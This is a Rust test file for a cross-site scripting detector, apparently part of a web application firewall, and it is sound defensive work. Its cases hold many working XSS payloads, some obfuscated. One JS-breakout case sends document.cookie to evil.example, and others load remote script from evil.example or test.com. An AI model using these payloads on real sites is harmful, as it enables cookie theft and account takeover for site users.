use super::*;
use crate::decode;

/// Rule ids the detector reports for `value` at `part`/`name`, decoded as the transaction does.
fn ids_at(part: Part, name: Option<&str>, value: &str) -> Vec<u32> {
    ids_pl(part, name, value, 4)
}

fn ids_pl(part: Part, name: Option<&str>, value: &str, paranoia: u8) -> Vec<u32> {
    let loc = Location::new(part, name);
    let decoded = decode::normalize(value);
    let input = Input {
        location: &loc,
        raw: value,
        decoded: &decoded,
        paranoia,
    };
    let mut out = Vec::new();
    check(&input, &mut out);
    out.iter().map(|h| h.rule).collect()
}

fn ids(value: &str) -> Vec<u32> {
    ids_at(Part::QueryArg, Some("q"), value)
}

/// Rules that block on their own at paranoia 1.
fn blocking(value: &str) -> Vec<u32> {
    ids(value)
        .into_iter()
        .filter(|&id| {
            let r = super::super::rule(id);
            r.paranoia == 1 && r.severity == crate::finding::Severity::Critical
        })
        .collect()
}

#[track_caller]
fn fires(value: &str, rule: u32) {
    let got = ids(value);
    assert!(
        got.contains(&rule),
        "{value:?}: expected {rule}, got {got:?}"
    );
}

#[track_caller]
fn quiet(value: &str) {
    let got = blocking(value);
    assert!(
        got.is_empty(),
        "{value:?}: expected nothing at PL1, got {got:?}"
    );
}

#[test]
fn script_elements() {
    fires("<script>alert(1)</script>", SCRIPT_TAG);
    fires("<ScRiPt src=//evil.example/x.js>", SCRIPT_TAG);
    fires("<script/src=data:,alert(1)>", SCRIPT_TAG);
    fires(
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        SCRIPT_TAG,
    );
    fires("</script><script>alert(1)//", SCRIPT_TAG);
    fires("<scr<script>ipt>alert(1)</script>", SCRIPT_TAG);
    fires("%3Cscript%3Ealert(1)%3C/script%3E", SCRIPT_TAG);
    fires("&lt;script&gt;alert(1)&lt;/script&gt;", SCRIPT_TAG);
    // A bare open tag at the end is weaker.
    assert_eq!(ids("1<script"), vec![SCRIPT_OPEN]);
    // `<script"` is an element named `script"` to a browser.
    quiet("for power, \"binary<script\" is incorrect");
    quiet("for power, binary<script is incorrect");
}

#[test]
fn event_handlers_on_any_tag() {
    fires("<img src=x onerror=alert(1)>", EVENT_HANDLER);
    fires("<svg/onload=alert(1)>", EVENT_HANDLER);
    fires("<svg\tonload\n=\nalert(1)>", EVENT_HANDLER);
    fires("<xss onbeforehellfreezes=alert(1)>", EVENT_HANDLER);
    fires("<body onpageshow=alert(1)", EVENT_HANDLER);
    fires("<x onend=", EVENT_HANDLER);
    fires(
        "<a href=# onclick=\"#@~^CAAAAA==C^+.D`8#mgIAAA==^#~@\">XSS</a>",
        EVENT_HANDLER,
    );
    fires("<details open ontoggle=alert(1)>", EVENT_HANDLER);
    fires("\"><img src=x onerror=alert(1)>", EVENT_HANDLER);
}

#[test]
fn script_urls_in_attributes() {
    fires("<a href=\"javascript:alert(1)\">x</a>", SCRIPT_URL_ATTR);
    fires(
        "<a href=\"&#x6a;avascript:alert(1)\">x</a>",
        SCRIPT_URL_ATTR,
    );
    fires(
        "<a href=\" \tjava\tscript:alert(1)\">x</a>",
        SCRIPT_URL_ATTR,
    );
    fires("<a href=\"JaVaScRiPt:alert(1)\">x</a>", SCRIPT_URL_ATTR);
    fires(
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a>",
        SCRIPT_URL_ATTR,
    );
    fires(
        "<iframe src=data:text/html;base64,PHNjcmlwdD4=></iframe>",
        SCRIPT_URL_ATTR,
    );
    fires(
        "<form><button formaction=javascript:alert(1)>x",
        SCRIPT_URL_ATTR,
    );
    fires(
        "<math href=javascript:alert(1)>click</math>",
        SCRIPT_URL_ATTR,
    );
    fires("<embed src=\"javascript:alert(1)\">", SCRIPT_URL_ATTR);
    // `javascript:void(0)` does nothing.
    assert!(!ids("<a href=\"javascript:void(0)\">menu</a>").contains(&SCRIPT_URL_ATTR));
}

#[test]
fn active_tags() {
    fires("<iframe src=//evil.example>", ACTIVE_TAG);
    fires("<embed src=\"deuce.swf\">", ACTIVE_TAG);
    fires("<object data=x.swf>", ACTIVE_TAG);
    fires("<applet code=\"deuce.class\">", ACTIVE_TAG);
    fires("<base href=//evil.example/>", ACTIVE_TAG);
    fires("<BASE dsfds HREF / =", ACTIVE_TAG);
    fires(
        "<meta http-equiv=\"refresh\" content=\"0; url=//evil.example\">",
        ACTIVE_TAG,
    );
    fires("<meta charset=\"UTF-7\" />", ACTIVE_TAG);
    fires("<link / asdf href  /= ", ACTIVE_TAG);
    fires("<link rel=import href=x.html>", ACTIVE_TAG);
    fires("<form action=//evil.example><input name=p>", ACTIVE_TAG);
    fires("<button formaction=//evil.example>go", ACTIVE_TAG);
    fires("<?import implementation = x.htc>", ACTIVE_TAG);
    fires("<v:vmlframe src=\"foo.com/sup.fml\"/>", ACTIVE_TAG);
    fires(
        "<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) />",
        ACTIVE_TAG,
    );
    fires(
        "<svg><set attributeName=href to=javascript:alert(1)>",
        SCRIPT_URL_ATTR,
    );
    // A bare iframe loads nothing: paranoia 2.
    assert_eq!(ids("<iframe>"), vec![MARKUP]);
}

#[test]
fn css_that_runs() {
    fires(
        "<p style=\"background:url(javascript:alert(1))\">",
        CSS_SCRIPT,
    );
    fires("<div style=\"width: expression(alert(1))\">", CSS_SCRIPT);
    fires("<div style=\"xss:exp/**/ression(alert(1))\">", CSS_SCRIPT);
    fires(
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        CSS_SCRIPT,
    );
    fires(
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
        CSS_SCRIPT,
    );
    fires(
        "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
        CSS_SCRIPT,
    );
    fires(
        "style=color:red;background:url(javascript:alert(1))",
        CSS_SCRIPT,
    );
    fires(
        "-moz-binding:url(http://example.com/xss.xml#xss)",
        CSS_SCRIPT,
    );
    quiet("color: red");
    quiet("background: url(/img/logo.png) no-repeat");
    quiet("<style>body{color:red}</style>");
}

#[test]
fn script_url_values() {
    fires("javascript:alert(1)", SCRIPT_URL);
    fires("  javascript:alert(document.domain)", SCRIPT_URL);
    fires("ja&Tab;vascript&colon;alert(1)", SCRIPT_URL);
    fires("ja%26Tab%3Bvascript%3A%20", SCRIPT_URL);
    fires("jav\tascript:alert(1)", SCRIPT_URL);
    fires("vbscript:MsgBox(1)", SCRIPT_URL);
    fires(
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        SCRIPT_URL,
    );
    fires("https://example.com/?next=javascript:alert(1)", SCRIPT_URL);
    quiet("javascript:void(0)");
    quiet("javascript: the good parts");
    quiet("I love javascript");
    quiet("{\"href\":\"javascript:void(0);\",\"role\":\"menuitem\"}");
    quiet("{\"role\":\"menuitem\",\"href\":\"javascript:;\"}");
    quiet("https://example.com/docs/javascript/intro?lang=en");
    quiet("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE");
}

#[test]
fn attribute_breakouts() {
    fires("\" onmouseover=\"alert(1)", ATTR_BREAKOUT);
    fires("' autofocus onfocus=alert(1) x='", ATTR_BREAKOUT);
    fires("x\"onzoom=", ATTR_BREAKOUT);
    fires("' onselect=$.getScript('//test.com') '", ATTR_BREAKOUT);
    fires("x onmouseover=alert(1)", ATTR_BREAKOUT);
    fires("  onload= ", ATTR_BREAKOUT);
    fires("\" style=\"background:url(javascript:alert(1))", CSS_SCRIPT);
    fires("\" href=\"javascript:alert(1)", SCRIPT_URL_ATTR);
    // Prose and query-like text.
    quiet("the online shop");
    quiet("\"online\" means connected; one=1");
    quiet("api.js?onload=onloadCallback&render=explicit");
    quiet("turn it on=off");
}

#[test]
fn js_string_breakouts() {
    fires("';alert(1)//", JS_BREAKOUT);
    fires("\\\";alert(1);//", JS_BREAKOUT);
    fires("'-alert(1)-'", JS_BREAKOUT);
    fires("x\";setTimeout(name, 1)//", JS_BREAKOUT);
    fires(
        "');document.location='//evil.example/?c='+document.cookie;//",
        JS_BREAKOUT,
    );
    fires("';window['ale'+'rt'](1);//", JS_BREAKOUT);
    fires("\"+document.cookie+\"", JS_BREAKOUT);
    quiet("it's a nice day (really)");
    quiet("O'Reilly; confirm (yes)");
    quiet("\"hello\" (world)");
}

#[test]
fn javascript_in_code_position() {
    fires("alert(1)", JS_EXEC);
    fires("alert`1`", JS_EXEC);
    fires("eval('2 + 2')", JS_EXEC);
    fires("new Function()", JS_EXEC);
    fires("setInterval(code, 1)", JS_EXEC);
    fires("top['\\x61\\x6c\\x65\\x72\\x74'](1)", JS_EXEC);
    fires("parent['\\u{0061}lert'](1)", JS_EXEC);
    fires(
        "self['\\141\\154\\145\\162\\164']('\\130\\123\\123');//",
        JS_EXEC,
    );
    fires("this[/al/.source+/ert/.source](/XSS/.source);//", JS_EXEC);
    fires("globalThis[/*foo*/'alert'/*bar*/](1);//", JS_EXEC);
    fires("[].sort.call`${alert}1337`", JS_EXEC);
    fires(
        "Reflect.apply.call`${navigation.navigate}${navigation}${[name]}`",
        JS_EXEC,
    );
    fires("test;onfocus=eval(atob('YWxlcnQoMSk='))", JS_EXEC);
    fires(
        "parent[(+{}+[])[+!![]]+(![]+[])[!+[]+!![]]]((+{}+[])[+!![]]);//",
        JS_EXEC,
    );
    fires("(![]+[])[+!+[]]", JSFUCK);
    quiet("price alert(s) for shoes");
    quiet("Please confirm (or cancel) your order");
    quiet(
        "TypeError: x is not a function\n    at new Function (<anonymous>)\n    at eval (eval at f (app.js:1:2))",
    );
    quiet("print(hello)");
}

#[test]
fn templates_and_sandbox_escapes() {
    fires("{{constructor.constructor('alert(1)')()}}", TEMPLATE);
    fires(
        " x {{constructor.constructor('alert(1)')()}} . ff",
        TEMPLATE,
    );
    fires(
        "{y:''.constructor.prototype}.y.charAt=[].join;[1]|orderBy:'x=alert(1)'",
        TEMPLATE,
    );
    fires(
        "'a'.constructor.prototype.charAt=[].join;[1]|orderBy:'x=1} } };alert(1)//';",
        TEMPLATE,
    );
    fires(
        "a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(1)')()",
        TEMPLATE,
    );
    fires("{{$eval.constructor('alert(1)')()}}", TEMPLATE);
    quiet("{{ user.name }}");
    quiet("Hello {{name}}, your total is {{total | currency}}");
}

#[test]
fn dom_sinks_wait_for_paranoia_two() {
    for v in [
        "document.cookie",
        "window.location",
        "document /*foo*/ . cookie",
        "document.querySelector(\"p\").textContent=\"XSS\"",
        "x.innerHTML=y",
    ] {
        let got = ids(v);
        assert!(got.contains(&DOM_SINK), "{v:?}: {got:?}");
        quiet(v);
    }
    assert!(!ids("location=Paris").contains(&DOM_SINK));
}

#[test]
fn lookalike_brackets() {
    fires(
        "\u{ff1c}script \u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
        LOOKALIKE,
    );
    // IIS %u decoding folds full-width forms itself.
    fires(
        "%uff1cscript%u0020%uff1ealert%281%29%uff1c/script%uff1e",
        SCRIPT_TAG,
    );
    fires(
        "\u{bc}script\u{be}alert(\u{a2}XSS\u{a2})\u{bc}/script\u{be}",
        LOOKALIKE,
    );
    quiet("\u{ff1c}\u{4f60}\u{597d}\u{ff1e}\u{ff0c}\u{4e16}\u{754c}");
    quiet("\u{bd} cup of sugar, \u{bc} cup of milk");
    assert!(
        ids_at(
            Part::Header,
            Some("referer"),
            "&lt;script+&gt;alert(1);&lt;/script&gt"
        )
        .contains(&SCRIPT_TAG)
    );
}

#[test]
fn paranoia_one_skips_the_paranoia_two_work() {
    let at1 = |v: &str| ids_pl(Part::QueryArg, Some("q"), v, 1);
    for v in [
        "<a href=\"https://example.com\">x</a>",
        "document.cookie",
        "';foo(1)//",
        "</title>",
    ] {
        assert!(at1(v).is_empty(), "{v:?}: {:?}", at1(v));
        assert!(!ids(v).is_empty(), "{v:?} at paranoia 4");
    }
    assert!(at1("<svg onload=alert(1)>").contains(&EVENT_HANDLER));
}

#[test]
fn utf7() {
    fires("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", UTF7);
    fires("%2bADw-script%2bAD4-", UTF7);
    quiet("C++ADw is not UTF-7 text");
}

#[test]
fn benign_values_stay_quiet() {
    for v in [
        "a < b > c",
        "<3",
        "x<y",
        "5 < 10 and 10 > 5",
        "Ada Lovelace <ada@example.com>",
        "# Title\n\n* item\n* [link](https://example.com) `code` **bold**",
        "{\"name\":\"x\",\"tags\":[\"a\",\"b\"],\"top\":[1,2]}",
        "https://example.com/path?x=1&y=2#frag",
        "color: red; font-weight: bold",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "GA1.2.1234567890.1688378025",
        "I love javascript",
        "the online shop",
        "location=Paris",
        "onload",
        "Tom & Jerry (1940) - \"The Movie\"",
        "SELECT name FROM users WHERE id = 1",
        "if (a < b) { return a; }",
        "<b>bold</b> and <i>italic</i>",
    ] {
        quiet(v);
    }
}

#[test]
fn headers_by_kind() {
    let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36";
    assert!(ids_at(Part::Header, Some("user-agent"), ua).is_empty());
    assert!(ids_at(Part::Header, Some("accept"), "<script>alert(1)</script>").is_empty());
    assert!(
        ids_at(
            Part::Header,
            Some("user-agent"),
            "<script>alert(1)</script>"
        )
        .contains(&SCRIPT_TAG)
    );
    // Referer: its query arguments are inspected one by one.
    let r = "http://shop.example/search?name=parent%5B%2Fal%2F.source%2B%2Fert%2F.source%5D%28%2FXSS%2F.source%29%3B%2F%2F";
    assert!(ids_at(Part::Header, Some("referer"), r).contains(&JS_EXEC));
    let r = "https://evil.example/\" onmouseover=alert(document.cookie) \"";
    assert!(ids_at(Part::Header, Some("referer"), r).contains(&ATTR_BREAKOUT));
    let r = "https://shop.example/list?page=2&sort=price&q=red+shoes";
    assert!(ids_at(Part::Header, Some("referer"), r).is_empty());
    // The path gets markup checks.
    assert!(ids_at(Part::Path, None, "/index.php/<svg/onload=alert()").contains(&EVENT_HANDLER));
    assert!(ids_at(Part::RequestLine, None, "GET /?<script> HTTP/1.1").is_empty());
    // ...JavaScript, and a segment that is a script URL.
    assert!(ids_at(Part::Path, None, "/p/\";alert(1)//").contains(&JS_BREAKOUT));
    assert!(ids_at(Part::Path, None, "/go/javascript:fetch('//e.example')").contains(&SCRIPT_URL));
    assert!(ids_at(Part::Path, None, "/learn/javascript:basics").is_empty());
    assert!(ids_at(Part::Path, None, "/wiki/Alert_(band)").is_empty());
    // A short text body is one value; a long one, JSON or XML is not.
    assert!(
        ids_at(Part::Body, None, "\" autofocus onfocus=alert(1) x=\"").contains(&ATTR_BREAKOUT)
    );
    assert!(ids_at(Part::Body, None, "{\"a\":\"';alert(1)//\"}").is_empty());
}

#[test]
fn framework_directives_are_read_as_expressions() {
    let v = "<p v-show=\"_c.constructor`alert(1)`()\">";
    assert!(ids(v).contains(&TEMPLATE));
    let v = "<div ng-click=\"$event.view.alert(1)\">";
    assert!(ids(v).contains(&TEMPLATE));
    assert!(!ids("<p v-if=\"user.loggedIn\" :class=\"{active: isOn}\">").contains(&TEMPLATE));
}

#[test]
fn long_values_are_bounded() {
    let v = "<a ".repeat(20_000) + "<script>alert(1)</script>";
    // Past the cap: not seen, and no blow-up.
    let _ = ids(&v);
    let v = "'".repeat(50_000);
    assert!(ids(&v).is_empty());
}

/// Each finding shows the tag, attribute or code that runs, not the text around it.
#[test]
fn matched_is_the_markup_or_code_only() {
    let m = |v: &str| crate::detect::testing::matched(check, Part::QueryArg, Some("q"), v);
    for (v, rule, want) in [
        (
            "Great post! <script>alert(1)</script> thanks",
            SCRIPT_TAG,
            "<script>alert(1)</script>",
        ),
        (
            "my picture <img src=x onerror=alert(1)> here",
            EVENT_HANDLER,
            "<img src=x onerror=alert(1)>",
        ),
        (
            "my picture <img src=x onerror=alert(1)> here",
            ATTR_BREAKOUT,
            "onerror=alert(1)",
        ),
        (
            "search term\" onmouseover=\"alert(1)",
            ATTR_BREAKOUT,
            "\" onmouseover=\"alert(1)",
        ),
        (
            "abc';alert(String.fromCharCode(88))//",
            JS_BREAKOUT,
            "';alert(String.fromCharCode(88))",
        ),
        ("1;alert(1); ok", JS_EXEC, "alert(1)"),
        ("x ＜script＞alert(1)＜/script＞ y", LOOKALIKE, "＜script＞"),
        (
            "hi {{constructor.constructor('alert(1)')()}} bye",
            TEMPLATE,
            "constructor.constructor('alert(1)')()",
        ),
    ] {
        let got = m(v);
        let text = got
            .iter()
            .find(|(r, _)| *r == rule)
            .map(|(_, t)| t.as_str())
            .unwrap_or_else(|| panic!("{rule} not reported for {v:?}: {got:?}"));
        assert_eq!(text, want, "{rule} in {v:?}");
    }
    // A long tag shows the attribute, which is what fits in a finding.
    let long = format!("<img class=\"{}\" src=x onerror=alert(1)>", "c".repeat(120));
    let got = m(&long);
    assert!(
        got.contains(&(EVENT_HANDLER, "onerror=alert(1)".to_owned())),
        "{got:?}"
    );
}
